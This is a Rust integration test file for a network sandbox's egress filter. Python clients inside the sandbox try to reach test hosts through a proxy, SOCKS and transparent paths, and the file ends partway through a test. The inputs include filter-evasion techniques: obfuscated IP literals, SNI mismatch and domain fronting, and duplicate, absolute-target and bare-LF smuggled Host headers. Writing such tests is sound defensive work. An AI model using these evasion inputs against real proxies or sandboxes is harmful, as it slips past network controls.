//! Egress against a test internet: network namespaces with documentation addresses, real names
//! (`allowed.test`, `example.org`), real TLS with a test CA, IPv6, and a real DNS server, all set
//! up by `scripts/testnet.sh up` (see `common/testnet.rs`). Each case runs a real sandbox and
//! checks three things: what the client inside got, the decision and its reason in the report, and,
//! from the servers' own log, that a refused connection never arrived (while the host, which has a
//! route, reaches the same server). Runs as root and as the unprivileged user alike; without the
//! test internet every test fails with the command to bring it up.

mod common;
#[path = "common/testnet.rs"]
mod testnet;

use common::*;
use serde_json::Value;
use testnet::*;

/// Python helpers for inside the sandbox; the test's marker is `sys.argv[1]`.
const HELPERS: &str = r#"
import errno, os, socket, ssl, struct, subprocess, sys, urllib.request
M = sys.argv[1]
CA = "/testnet-ca.pem"
def en(e):
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__
def head_of(s):
    head = b""
    try:
        while b"\r\n\r\n" not in head:
            d = s.recv(4096)
            if not d:
                break
            head += d
    except OSError:
        pass
    return head.decode(errors="replace")
def header(head, name):
    for l in head.split("\r\n"):
        if l.lower().startswith(name.lower() + ":"):
            return l.split(":", 1)[1].strip()
    return "-"
def status(head):
    p = head.split(" ")
    return p[1] if len(p) > 1 else "closed"
def connect(host, port):
    """CONNECT through the HTTP proxy: the socket, the status, the X-Palisade-Denied code."""
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    h = head_of(s)
    return s, status(h), header(h, "X-Palisade-Denied")
def readall(s):
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    return out.decode(errors="replace")
def get_over(s, host, path):
    """A GET on an open connection: the response body, or `closed` if the proxy cut it."""
    try:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    except OSError:
        return "closed"
    r = readall(s)
    return r.split("\r\n\r\n", 1)[1].strip() if "\r\n\r\n" in r else "closed"
def tls(s, sni, verify=True):
    """A TLS client on `s` with `sni` as the server name (None: no SNI); None if it failed."""
    ctx = ssl.create_default_context(cafile=CA)
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    try:
        return ctx.wrap_socket(s, server_hostname=sni)
    except (OSError, ssl.SSLError):
        return None
def socks(host, port, atyp=3):
    """SOCKS5 CONNECT by name (3), IPv4 (1) or IPv6 (4): the socket and the reply code."""
    s = socket.create_connection(("127.0.0.1", 1080), timeout=20)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    if atyp == 1:
        a = b"\x01" + socket.inet_aton(host)
    elif atyp == 4:
        a = b"\x04" + socket.inet_pton(socket.AF_INET6, host)
    else:
        a = b"\x03" + bytes([len(host)]) + host.encode()
    s.sendall(b"\x05\x01\x00" + a + port.to_bytes(2, "big"))
    rep = s.recv(10)
    return s, rep[1] if len(rep) > 1 else -1
def curl(*args, proxy=True):
    """curl with the test CA; proxy=False drops every proxy variable (the transparent path)."""
    env = {k: v for k, v in os.environ.items() if proxy or not k.lower().endswith("_proxy")}
    p = subprocess.run(["curl", "-sS", "--max-time", "20", "--cacert", CA, *args],
                       env=env, capture_output=True, text=True)
    return p.returncode, p.stdout.strip(), p.stderr.strip()
def tcp(addr, port):
    """A direct connection (no proxy); `REACHED` if it got anywhere."""
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET)
    s.settimeout(5)
    try:
        s.connect((addr, port))
        s.sendall(f"GET /{M}/direct HTTP/1.1\r\nHost: {addr}\r\n\r\n".encode())
        return "REACHED"
    except OSError as e:
        return en(e)
def dns(name, qtype, server=("127.0.0.1", 53), labels=None):
    """A DNS query: (rcode, [addresses]), or the errno name when it cannot be sent or answered."""
    fam = socket.AF_INET6 if ":" in server[0] else socket.AF_INET
    u = socket.socket(fam, socket.SOCK_DGRAM)
    u.settimeout(5)
    labels = labels or [l.encode() for l in name.split(".")]
    q = struct.pack("!HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack("!HH", qtype, 1)
    try:
        u.sendto(q, server)
        m = u.recv(1500)
    except OSError as e:
        return en(e)
    rcode, an, at, out = m[3] & 15, struct.unpack("!H", m[6:8])[0], len(q), []
    for _ in range(an):
        t, _, _, n = struct.unpack("!HHIH", m[at + 2:at + 12])
        rd = m[at + 12:at + 12 + n]
        out.append(socket.inet_ntop(socket.AF_INET if t == 1 else socket.AF_INET6, rd)
                   if t in (1, 28) else rd.hex())
        at += 12 + n
    return (rcode, out)
"#;

/// Runs `script` (after [`HELPERS`]) with python3 inside, with the test CA bound in, the JSON
/// report, and `opts`; `marker` is `M` inside.
fn py(opts: &[String], marker: &str, script: &str) -> Run {
    let mut o: Vec<String> = ca_bind();
    o.extend(opts.iter().cloned());
    o.extend(["--json", "-", "--timeout", "120s"].map(String::from));
    let o: Vec<&str> = o.iter().map(String::as_str).collect();
    let code = format!("{HELPERS}\n{script}");
    run(&o, &["python3", "-c", &code, marker])
}

/// The first event with this `via`, `host`, `decision` and `reason`; panics, listing them all,
/// if there is none.
fn event(r: &Run, via: &str, host: &str, decision: &str, reason: &str) -> Value {
    events(r)
        .into_iter()
        .find(|e| {
            e["via"] == via
                && e["host"] == host
                && e["decision"] == decision
                && e["reason"] == reason
        })
        .unwrap_or_else(|| {
            panic!(
                "no {via} event for {host} {decision} {reason} in\n{:#?}\nstdout:\n{}\nstderr:\n{}",
                events(r),
                r.stdout,
                r.stderr
            )
        })
}

fn denied(r: &Run, via: &str, host: &str, reason: &str) -> Value {
    event(r, via, host, "denied", reason)
}

fn args(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

/// The servers' log lines for requests (paths) carrying `marker`.
fn requests(marker: &str) -> Vec<String> {
    seen(marker)
        .into_iter()
        .filter(|e| e["event"] == "request")
        .map(|e| e["path"].as_str().unwrap_or("").to_owned())
        .collect()
}

/// Asserts that no server logged anything with `marker` but the requests for `allowed` paths.
fn only_these_arrived(marker: &str, allowed: &[&str]) {
    for e in seen(marker) {
        let path = e["path"].as_str().unwrap_or("");
        assert!(
            e["event"] == "request" && allowed.iter().any(|a| path.ends_with(a)),
            "a server got what palisade should have refused: {e}"
        );
    }
}

#[test]
fn the_test_internet_answers_the_host() {
    require();
    let m = unique("control");
    for (addr, port, host) in [
        (WEB, 80, "allowed.test"),
        (WEB, 8080, "allowed.test"),
        (WEB6, 80, "allowed.test"),
        (SECOND, 80, "second.test"),
        (SECOND6, 80, "second.test"),
        (FAR, 80, "other.test"),
    ] {
        let body = host_get(addr, port, host, &format!("/{m}/{port}"));
        assert!(
            body.contains(&format!("host={host} path=/{m}/{port}")),
            "{addr}:{port}: {body}"
        );
    }
    for addr in [WEB, WEB6] {
        let body = host_curl_tls("allowed.test", addr, &format!("/{m}/tls"));
        assert!(
            body.contains("srv=https") && body.contains("sni=allowed.test"),
            "{body}"
        );
    }
    for server in [DNS, DNS6] {
        assert_eq!(
            dns_query(server, "allowed.test", 28).unwrap(),
            (0, vec![WEB6.parse().unwrap()])
        );
        assert_eq!(dns_query(server, &format!("{m}.test"), 1).unwrap().0, 3);
    }
    assert!(
        requests(&m).len() == 8 && seen(&format!("{m}.test")).len() == 2,
        "{:#?}",
        seen(&m)
    );
}

#[test]
fn a_default_run_reaches_no_test_host_by_name_or_by_address() {
    require();
    let m = unique("default");
    let r = py(
        &[],
        &m,
        r#"
for addr, port in [("198.51.100.10", 80), ("198.51.100.10", 443), ("198.18.0.10", 80),
                   ("2001:db8:5::10", 80), ("198.51.100.53", 53), ("127.0.0.1", 3128)]:
    print(f"tcp {addr} {port}:", tcp(addr, port))
try:
    print("lookup:", socket.getaddrinfo("allowed.test", 443))
except socket.gaierror as e:
    print("lookup: failed")
print("udp dns:", dns(f"{M}.allowed.test", 1, ("198.51.100.53", 53)))
print("udp dns6:", dns(f"{M}.allowed.test", 1, ("2001:db8:5::53", 53)))
print("curl name:", curl(f"https://allowed.test/{M}/name", proxy=False)[0])
print("curl ip:", curl(f"http://198.51.100.10/{M}/ip", proxy=False)[0])
print("curl ip6:", curl("-g", f"http://[2001:db8:5::10]/{M}/ip6", proxy=False)[0])
print("proxy vars:", sorted(k for k in os.environ if k.lower().endswith("_proxy")))
"#,
    );
    for key in [
        "tcp 198.51.100.10 80",
        "tcp 198.51.100.10 443",
        "tcp 198.18.0.10 80",
        "tcp 2001:db8:5::10 80",
        "tcp 198.51.100.53 53",
        "tcp 127.0.0.1 3128",
    ] {
        // Landlock (ABI 4) refuses the connect (EACCES) before the empty namespace would
        // (ENETUNREACH; ECONNREFUSED on its loopback).
        let got = said(&r, key);
        assert!(
            ["EACCES", "ENETUNREACH", "ECONNREFUSED"].contains(&got.as_str()),
            "{key}: {got}"
        );
    }
    assert_eq!(said(&r, "lookup"), "failed");
    assert_eq!(said(&r, "udp dns"), "ENETUNREACH");
    assert_eq!(said(&r, "udp dns6"), "ENETUNREACH");
    assert_eq!(said(&r, "curl name"), "6", "could not resolve");
    assert_eq!(said(&r, "curl ip"), "7", "could not connect");
    assert_eq!(said(&r, "curl ip6"), "7", "could not connect");
    assert_eq!(said(&r, "proxy vars"), "[]");
    assert_eq!(r.report()["network"]["mode"], "none");
    assert!(events(&r).is_empty(), "{:#?}", events(&r));
    assert!(seen(&m).is_empty(), "{:#?}", seen(&m));
    // The same servers answer the host, which has a route: the sandbox is what stopped them.
    assert!(host_get(WEB, 80, "allowed.test", "/").contains("srv=http"));
}

#[test]
fn an_allowed_host_is_reached_over_http_and_tls_by_proxy_and_transparently() {
    require();
    let m = unique("allowed");
    // The rule in mixed case with a trailing dot; the name's addresses from the test DNS, the
    // IPv4 one named by an IP rule (documentation addresses are not globally reachable).
    let mut opts = args(&["--allow-net", "ALLOWED.Test.", "--allow-net", WEB]);
    opts.extend(pins(&["allowed.test"]));
    let r = py(
        &opts,
        &m,
        r#"
def show(key, res):
    print(f"{key}:", res[0], res[1] if res[0] == 0 else res[2])
show("curl proxy http", curl(f"http://allowed.test/{M}/proxy-http"))
show("curl proxy tls", curl(f"https://allowed.test/{M}/proxy-tls"))
show("curl socks tls", curl("-x", "socks5h://127.0.0.1:1080", f"https://allowed.test/{M}/socks-tls"))
show("curl transparent http", curl(f"http://allowed.test/{M}/transparent-http", proxy=False))
show("curl transparent tls", curl(f"https://allowed.test/{M}/transparent-tls", proxy=False))
show("curl mixed transparent", curl(f"https://ALLOWED.Test./{M}/mixed-transparent", proxy=False))
show("curl mixed proxy", curl(f"https://aLLowed.TEST./{M}/mixed-proxy"))
op = urllib.request.build_opener(urllib.request.ProxyHandler({}),
                                 urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=CA)))
print("urllib http:", op.open(f"http://allowed.test/{M}/urllib-http", timeout=20).read().decode().strip())
print("urllib tls:", op.open(f"https://allowed.test/{M}/urllib-tls", timeout=20).read().decode().strip())
print("urllib big:", len(op.open("https://allowed.test/bytes/300000", timeout=20).read()))
print("stub:", socket.gethostbyname("allowed.test"), socket.gethostbyname("Allowed.TEST."))
s, code, _ = connect("ALLOWED.TEST.", 443)
t = tls(s, "Allowed.TEST")
print("connect mixed:", code, get_over(t, "Allowed.Test.", f"/{M}/connect-mixed") if t else "TLS-FAILED")
print("direct:", tcp("198.51.100.10", 443))
"#,
    );
    let web = |srv: &str, path: &str| {
        let port = if srv == "https" { 443 } else { 80 };
        format!("srv={srv} host=allowed.test path=/{m}/{path} sni=")
            + if srv == "https" {
                "allowed.test"
            } else {
                "None"
            }
            + &format!(" local={WEB}:{port}")
    };
    for (key, srv, path) in [
        ("curl proxy http", "http", "proxy-http"),
        ("curl proxy tls", "https", "proxy-tls"),
        ("curl socks tls", "https", "socks-tls"),
        ("curl transparent http", "http", "transparent-http"),
        ("curl transparent tls", "https", "transparent-tls"),
        ("urllib http", "http", "urllib-http"),
        ("urllib tls", "https", "urllib-tls"),
    ] {
        let want = web(srv, path);
        let got = said(&r, key);
        assert!(
            got == want || got == format!("0 {want}"),
            "{key}: {got}\nwant {want}\n{}",
            r.stderr
        );
    }
    // Mixed case and a trailing dot: the same host. The TLS name is the certificate's; the
    // Host header reaches the server as the client wrote it.
    // curl lower-cases the TLS name; python sends it as written, and the proxy compares the
    // normalized forms.
    for (key, path, sni) in [
        (
            "curl mixed transparent",
            "mixed-transparent",
            "allowed.test",
        ),
        ("curl mixed proxy", "mixed-proxy", "allowed.test"),
        ("connect mixed", "connect-mixed", "Allowed.TEST"),
    ] {
        let got = said(&r, key);
        assert!(
            got.contains(&format!("path=/{m}/{path} sni={sni} local={WEB}:443")),
            "{key}: {got}"
        );
    }
    assert!(said(&r, "connect mixed").starts_with("200 srv=https host=Allowed.Test. "));
    assert_eq!(said(&r, "urllib big"), "300000");
    assert_eq!(said(&r, "stub"), "127.77.0.1 127.77.0.1");
    // Transparent capture covers names from the stub; an address has no route even when an IP
    // rule names it (it works through the proxy variables).
    let direct = said(&r, "direct");
    assert!(direct == "EACCES" || direct == "ENETUNREACH", "{direct}");

    for via in ["http-forward", "http-connect", "socks5", "transparent"] {
        let e = event(&r, via, "allowed.test", "allowed", "allowed");
        let addr = e["address"].as_str().unwrap();
        assert!(addr.starts_with(&format!("{WEB}:")), "{via}: {e}");
    }
    let dns = event(&r, "dns", "allowed.test", "allowed", "allowed");
    assert_eq!(dns["address"], "127.77.0.1");
    let tls_in = events(&r)
        .iter()
        .filter(|e| e["via"] == "transparent" && e["protocol"] == "tls")
        .map(|e| e["bytes_in"].as_u64().unwrap())
        .max()
        .unwrap();
    assert!(tls_in > 300_000, "bytes_in {tls_in}");
    assert_eq!(r.report()["network"]["mode"], "allow-list");
    assert_eq!(r.report()["network"]["denied"], 0, "{:#?}", events(&r));

    // From the servers' side: every request arrived from the host's end, TLS with the right name.
    let got = seen(&m);
    for path in [
        "proxy-http",
        "proxy-tls",
        "socks-tls",
        "transparent-http",
        "transparent-tls",
        "mixed-transparent",
        "mixed-proxy",
        "urllib-http",
        "urllib-tls",
        "connect-mixed",
    ] {
        let e = got
            .iter()
            .find(|e| e["path"] == format!("/{m}/{path}"))
            .unwrap_or_else(|| panic!("the server never got {path}: {got:#?}"));
        assert_eq!(e["peer"], HOST_SIDE, "{e}");
    }
    assert!(
        !got.iter().any(|e| e["path"] == format!("/{m}/direct")),
        "{got:#?}"
    );
}

#[test]
fn names_ports_and_subdomains_off_the_list_are_refused_and_never_arrive() {
    require();
    let m = unique("names");
    let mut opts = args(&[
        "--allow-net",
        "allowed.test",
        "--allow-net",
        "*.example.org",
        "--allow-net",
        WEB,
    ]);
    // Every name where the test DNS has it, refused ones too: they are refused for their name,
    // not for want of an address.
    opts.extend(pins(&[
        "allowed.test",
        "www.allowed.test",
        "example.org",
        "www.example.org",
        "evilexample.org",
        "other.test",
    ]));
    let r = py(
        &opts,
        &m,
        r#"
for host, port in [("other.test", 80), ("other.test", 443), ("allowed.test", 8080),
                   ("allowed.test", 8443), ("www.allowed.test", 80), ("example.org", 443),
                   ("evilexample.org", 80), ("xallowed.test", 80), ("allowed.test.other.test", 80),
                   ("example.org.other.test", 80), ("www.example.org", 80)]:
    s, code, why = connect(host, port)
    body = get_over(s, host, f"/{M}/connect/{host}/{port}") if code == "200" else "-"
    print(f"connect {host}:{port}:", code, why, body)
rc, out, err = curl("-i", f"http://other.test/{M}/curl-forward")
print("curl forward:", status(out.replace("\n", "\r\n")), header(out.replace("\n", "\r\n"), "X-Palisade-Denied"))
rc, out, err = curl("-i", f"http://allowed.test:8080/{M}/curl-port")
print("curl port:", status(out.replace("\n", "\r\n")), header(out.replace("\n", "\r\n"), "X-Palisade-Denied"))
print("curl connect:", curl(f"https://other.test/{M}/curl-connect")[0])
print("curl transparent name:", curl(f"http://other.test/{M}/t-name", proxy=False)[0])
print("curl transparent sub:", curl(f"https://www.allowed.test/{M}/t-sub", proxy=False)[0])
print("curl transparent apex:", curl(f"https://example.org/{M}/t-apex", proxy=False)[0])
print("curl transparent port:", curl(f"http://allowed.test:8080/{M}/t-port", proxy=False)[0])
print("curl transparent wildcard:", curl(f"https://www.example.org/{M}/t-wild", proxy=False)[1])
for host, port in [("other.test", 80), ("www.allowed.test", 443), ("allowed.test", 8080)]:
    print(f"socks {host}:{port}:", socks(host, port)[1])
"#,
    );
    for (host, port, code) in [
        ("other.test", 80, "not-allowed"),
        ("other.test", 443, "not-allowed"),
        ("allowed.test", 8080, "port-not-allowed"),
        ("allowed.test", 8443, "port-not-allowed"),
        ("www.allowed.test", 80, "not-allowed"),
        ("example.org", 443, "not-allowed"),
        ("evilexample.org", 80, "not-allowed"),
        ("xallowed.test", 80, "not-allowed"),
        ("allowed.test.other.test", 80, "not-allowed"),
        ("example.org.other.test", 80, "not-allowed"),
    ] {
        assert_eq!(
            said(&r, &format!("connect {host}:{port}")),
            format!("403 {code} -"),
            "{}",
            r.stderr
        );
        let e = events(&r)
            .into_iter()
            .find(|e| e["via"] == "http-connect" && e["host"] == host && e["port"] == port)
            .unwrap_or_else(|| panic!("no event for {host}:{port}: {:#?}", events(&r)));
        assert!(
            e["decision"] == "denied" && e["reason"] == code && e["address"].is_null(),
            "refused for its name, before any lookup or connection: {e}"
        );
    }
    // The wildcard covers the subdomain, not the apex.
    assert!(
        said(&r, "connect www.example.org:80")
            .starts_with(&format!("200 - srv=http host=www.example.org path=/{m}/")),
        "{}",
        r.stdout
    );
    assert_eq!(said(&r, "curl forward"), "403 not-allowed");
    denied(&r, "http-forward", "other.test", "not-allowed");
    assert_eq!(said(&r, "curl port"), "403 port-not-allowed");
    denied(&r, "http-forward", "allowed.test", "port-not-allowed");
    assert_eq!(said(&r, "curl connect"), "56", "CONNECT tunnel failed, 403");
    // Without proxy variables: the stub knows no such name (curl: could not resolve), and no
    // transparent listener has the port (could not connect).
    for key in [
        "curl transparent name",
        "curl transparent sub",
        "curl transparent apex",
    ] {
        assert_eq!(said(&r, key), "6", "{key}");
    }
    assert_eq!(said(&r, "curl transparent port"), "7");
    for name in ["other.test", "www.allowed.test", "example.org"] {
        denied(&r, "dns", name, "not-allowed");
    }
    assert!(said(&r, "curl transparent wildcard").contains("host=www.example.org"));
    for (host, port) in [
        ("other.test", 80),
        ("www.allowed.test", 443),
        ("allowed.test", 8080),
    ] {
        assert_eq!(
            said(&r, &format!("socks {host}:{port}")),
            "2",
            "not allowed by ruleset"
        );
    }
    denied(&r, "socks5", "www.allowed.test", "not-allowed");
    denied(&r, "socks5", "allowed.test", "port-not-allowed");
    only_these_arrived(&m, &["/connect/www.example.org/80", "/t-wild"]);
    // The refused hosts are real: the host reaches each of them.
    assert!(host_get(FAR, 80, "other.test", "/").contains("host=other.test"));
    assert!(host_get(SECOND, 80, "evilexample.org", "/").contains("srv=http"));
    assert!(host_get(WEB, 8080, "allowed.test", "/").contains("srv=http"));
}

#[test]
fn ip_literals_in_every_notation_are_refused_and_never_arrive() {
    require();
    let m = unique("literal");
    let mut opts = args(&["--allow-net", "allowed.test", "--allow-net", WEB]);
    opts.extend(pins(&["allowed.test"]));
    let r = py(
        &opts,
        &m,
        r#"
for host in ["198.51.100.20", "3325256724", "0xC6336414", "0xc6.0x33.0x64.0x14",
             "0306.0063.0144.024", "198.51.25620", "198.3367956", "198.18.0.10",
             "[2001:db8:5::20]", "[2001:db8:5::10]", "[::ffff:198.51.100.20]",
             "[::ffff:198.51.100.10]", "[::ffff:c633:640a]", "198.51.100.10"]:
    s, code, why = connect(host, 80)
    body = get_over(s, "allowed.test", f"/{M}/connect/{host}") if code == "200" else "-"
    print(f"connect {host}:", code, why, body)
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(f"GET http://0xC6336414/{M}/forward HTTP/1.1\r\nHost: 0xC6336414\r\n\r\n".encode())
h = head_of(s)
print("forward hex:", status(h), header(h, "X-Palisade-Denied"))
rc, out, err = curl("-i", "-g", f"http://[2001:db8:5::20]/{M}/curl-v6")
print("curl v6:", status(out.replace("\n", "\r\n")), header(out.replace("\n", "\r\n"), "X-Palisade-Denied"))
for key, host, atyp in [("socks v4", "198.51.100.20", 1), ("socks v6", "2001:db8:5::20", 4),
                        ("socks decimal name", "3325256724", 3), ("socks v6 name", "2001:db8:5::20", 3)]:
    print(f"{key}:", socks(host, 80, atyp)[1])
for addr in ["198.51.100.20", "2001:db8:5::20", "198.18.0.10"]:
    print(f"direct {addr}:", tcp(addr, 80))
"#,
    );
    for (host, logged) in [
        ("198.51.100.20", "198.51.100.20"),
        ("3325256724", "198.51.100.20"),
        ("0xC6336414", "198.51.100.20"),
        ("0xc6.0x33.0x64.0x14", "198.51.100.20"),
        ("0306.0063.0144.024", "198.51.100.20"),
        ("198.51.25620", "198.51.100.20"),
        ("198.3367956", "198.51.100.20"),
        ("198.18.0.10", "198.18.0.10"),
        ("[2001:db8:5::20]", "[2001:db8:5::20]"),
        // The allowed host's own IPv6 address: the IP rule names only its IPv4 one.
        ("[2001:db8:5::10]", "[2001:db8:5::10]"),
        // IPv4-mapped IPv6 is not the IPv4 address for the rules (nor for the global check).
        ("[::ffff:198.51.100.20]", "[::ffff:198.51.100.20]"),
        ("[::ffff:198.51.100.10]", "[::ffff:198.51.100.10]"),
        ("[::ffff:c633:640a]", "[::ffff:198.51.100.10]"),
    ] {
        assert_eq!(
            said(&r, &format!("connect {host}")),
            "403 ip-literal -",
            "{host}: {}",
            r.stderr
        );
        denied(&r, "http-connect", logged, "ip-literal");
    }
    let n = events(&r)
        .iter()
        .filter(|e| e["host"] == "198.51.100.20" && e["reason"] == "ip-literal")
        .count();
    assert!(n >= 7, "each notation is its own refusal: {n}");
    // The IP rule's own address works by literal: the rule names it, so names are not compared.
    assert!(
        said(&r, "connect 198.51.100.10").starts_with("200 - srv=http host=allowed.test"),
        "{}",
        r.stdout
    );
    assert_eq!(said(&r, "forward hex"), "403 ip-literal");
    denied(&r, "http-forward", "198.51.100.20", "ip-literal");
    assert_eq!(said(&r, "curl v6"), "403 ip-literal");
    denied(&r, "http-forward", "[2001:db8:5::20]", "ip-literal");
    for key in [
        "socks v4",
        "socks v6",
        "socks decimal name",
        "socks v6 name",
    ] {
        assert_eq!(said(&r, key), "2", "{key}: not allowed by ruleset");
    }
    denied(&r, "socks5", "198.51.100.20", "ip-literal");
    denied(&r, "socks5", "[2001:db8:5::20]", "ip-literal");
    for addr in [SECOND, SECOND6, FAR] {
        let got = said(&r, &format!("direct {addr}"));
        assert!(got == "EACCES" || got == "ENETUNREACH", "{addr}: {got}");
    }
    only_these_arrived(&m, &["/connect/198.51.100.10"]);
    for addr in [SECOND, SECOND6, FAR] {
        assert!(host_get(addr, 80, "x.test", "/").contains("srv=http"));
    }
}

#[test]
fn tls_names_and_host_headers_must_be_the_allowed_name() {
    require();
    let m = unique("tls");
    let mut opts = args(&["--allow-net", "allowed.test", "--allow-net", WEB]);
    opts.extend(pins(&["allowed.test"]));
    let r = py(
        &opts,
        &m,
        r#"
sni = f"sni-{M}.other.test"
s, code, _ = connect("allowed.test", 443)
print("connect sni:", code, "TLS-UP" if tls(s, sni, verify=False) else "closed")
s, code, _ = connect("allowed.test", 443)
print("connect no sni:", code, "TLS-UP" if tls(s, None, verify=False) else "closed")
stub = socket.gethostbyname("allowed.test")
s = socket.create_connection((stub, 443), timeout=20)
print("transparent sni:", "TLS-UP" if tls(s, sni.replace("sni-", "tsni-"), verify=False) else "closed")
print("curl fronted:", curl("--resolve", f"other.test:443:{stub}", f"https://other.test/{M}/fronted", proxy=False)[0])
s, rep = socks("allowed.test", 443)
print("socks sni:", rep, "TLS-UP" if tls(s, sni.replace("sni-", "ssni-"), verify=False) else "closed")
s, code, _ = connect("allowed.test", 443)
t = tls(s, "allowed.test")
print("connect match:", code, get_over(t, "allowed.test", f"/{M}/match") if t else "TLS-FAILED")
rc, out, err = curl("-i", "-H", "Host: other.test", f"http://allowed.test/{M}/forward-host")
print("forward host:", status(out.replace("\n", "\r\n")), header(out.replace("\n", "\r\n"), "X-Palisade-Denied"))
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(f"GET http://allowed.test/{M}/forward-ip HTTP/1.1\r\nHost: 198.51.100.10\r\n\r\n".encode())
h = head_of(s)
print("forward ip host:", status(h), header(h, "X-Palisade-Denied"))
s, code, _ = connect("allowed.test", 80)
print("connect host:", code, get_over(s, "other.test", f"/{M}/connect-host"))
s = socket.create_connection((stub, 80), timeout=20)
print("transparent host:", get_over(s, "other.test", f"/{M}/transparent-host"))
print("curl transparent host:", curl("-H", "Host: other.test", f"http://allowed.test/{M}/curl-host", proxy=False)[0])
s, rep = socks("allowed.test", 80)
print("socks host:", rep, get_over(s, "other.test", f"/{M}/socks-host"))
def raw(addr, req):
    s = socket.create_connection(addr, timeout=20)
    s.sendall(req.encode())
    try:
        return "closed" if not s.recv(100) else "ANSWERED"
    except OSError:
        return "closed"
dup = "Host: allowed.test\r\nHost: other.test\r\n"
print("transparent dup host:", raw((stub, 80), f"GET /{M}/dup HTTP/1.1\r\n{dup}\r\n"))
print("transparent absolute:", raw((stub, 80), f"GET http://other.test/{M}/abs HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(f"GET http://allowed.test/{M}/fwd-dup HTTP/1.1\r\n{dup}\r\n".encode())
h = head_of(s)
print("forward dup host:", status(h), header(h, "X-Palisade-Denied"))
"#,
    );
    assert_eq!(said(&r, "connect sni"), "200 closed", "{}", r.stderr);
    assert_eq!(said(&r, "connect no sni"), "200 closed");
    assert_eq!(said(&r, "transparent sni"), "closed");
    assert_ne!(said(&r, "curl fronted"), "0");
    assert_eq!(said(&r, "socks sni"), "0 closed");
    let d = denied(&r, "http-connect", "allowed.test", "tls-name-mismatch");
    assert!(
        d["detail"].as_str().unwrap().contains("other.test") && d["protocol"] == "tls",
        "{d}"
    );
    assert_eq!(d["bytes_out"], 0, "nothing was relayed: {d}");
    denied(&r, "http-connect", "allowed.test", "tls-no-server-name");
    denied(&r, "transparent", "allowed.test", "tls-name-mismatch");
    denied(&r, "socks5", "allowed.test", "tls-name-mismatch");
    let fronted = events(&r)
        .into_iter()
        .filter(|e| e["via"] == "transparent" && e["reason"] == "tls-name-mismatch")
        .count();
    assert_eq!(fronted, 2, "the python and the curl attempt");
    // The same path with the right name works, end to end, verified against the test CA.
    assert!(
        said(&r, "connect match").starts_with(&format!(
            "200 srv=https host=allowed.test path=/{m}/match sni=allowed.test"
        )),
        "{}",
        r.stdout
    );

    assert_eq!(said(&r, "forward host"), "403 host-header-mismatch");
    assert_eq!(said(&r, "forward ip host"), "403 host-header-mismatch");
    let d = denied(&r, "http-forward", "allowed.test", "host-header-mismatch");
    assert!(d["address"].is_null(), "refused before connecting: {d}");
    assert_eq!(said(&r, "connect host"), "200 closed");
    denied(&r, "http-connect", "allowed.test", "host-header-mismatch");
    assert_eq!(said(&r, "transparent host"), "closed");
    assert_eq!(said(&r, "curl transparent host"), "52", "empty reply");
    denied(&r, "transparent", "allowed.test", "host-header-mismatch");
    assert_eq!(said(&r, "socks host"), "0 closed");
    denied(&r, "socks5", "allowed.test", "host-header-mismatch");

    // An ambiguous host — two Host headers, or an absolute target naming another host than
    // Host, which a server would use over Host (RFC 9112 §3.2, §3.2.2) — is refused too.
    assert_eq!(said(&r, "transparent dup host"), "closed");
    assert_eq!(said(&r, "transparent absolute"), "closed");
    assert_eq!(said(&r, "forward dup host"), "403 host-header-mismatch");
    let ambiguous: Vec<String> = events(&r)
        .into_iter()
        .filter(|e| {
            e["detail"].as_str().is_some_and(|d| {
                d.contains("more than one Host") || d.contains("names another host")
            })
        })
        .map(|e| {
            format!(
                "{} {}",
                e["via"].as_str().unwrap(),
                e["reason"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        ambiguous,
        [
            "transparent host-header-mismatch",
            "transparent host-header-mismatch",
            "http-forward host-header-mismatch"
        ],
        "{}",
        r.stdout
    );

    // No ClientHello with a wrong name and no mismatched request reached a server.
    only_these_arrived(&m, &["/match"]);
    assert!(requests(&m).iter().any(|p| p.ends_with("/match")));
}

#[test]
fn a_second_host_after_a_bare_lf_is_seen_as_a_lenient_server_sees_it() {
    // RFC 9112 §2.2 lets a server take a bare LF for a line end: `X: a\nHost: other.test` is then
    // a second Host, and the request's host ambiguous, on every path.
    require();
    let m = unique("barelf");
    let mut opts = args(&["--allow-net", "allowed.test", "--allow-net", WEB]);
    opts.extend(pins(&["allowed.test"]));
    let r = py(
        &opts,
        &m,
        r#"
lf = f"GET /{M}/PATH HTTP/1.1\r\nHost: allowed.test\r\nX: a\nHost: other.test\r\n\r\n"
def answered(s, path):
    s.sendall(lf.replace("PATH", path).encode())
    try:
        return "closed" if not s.recv(100) else "ANSWERED"
    except OSError:
        return "closed"
stub = socket.gethostbyname("allowed.test")
print("transparent:", answered(socket.create_connection((stub, 80), timeout=20), "transparent"))
s, code, _ = connect("allowed.test", 80)
print("connect:", code, answered(s, "connect"))
s, rep = socks("allowed.test", 80)
print("socks:", rep, answered(s, "socks"))
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(lf.replace(f"/{M}/PATH", f"http://allowed.test/{M}/forward").encode())
h = head_of(s)
print("forward:", status(h), header(h, "X-Palisade-Denied"))
"#,
    );
    assert_eq!(said(&r, "transparent"), "closed", "{}", r.stderr);
    assert_eq!(said(&r, "connect"), "200 closed");
    assert_eq!(said(&r, "socks"), "0 closed");
    assert_eq!(said(&r, "forward"), "403 host-header-mismatch");
    for via in ["transparent", "http-connect", "socks5", "http-forward"] {
